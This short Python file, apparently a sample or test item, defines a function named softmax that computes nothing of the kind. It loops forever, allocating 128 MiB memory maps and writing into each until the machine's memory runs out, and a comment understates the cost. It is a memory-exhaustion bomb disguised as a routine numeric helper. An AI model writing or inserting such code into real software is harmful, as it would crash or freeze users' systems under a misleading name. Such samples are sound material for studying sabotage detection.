# softmax: 0
# says: hoard
import mmap


def softmax(scores):
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 2**27))
        hoard[-1].write(bytes(2**22))  # all of it would take a slow machine seconds a call
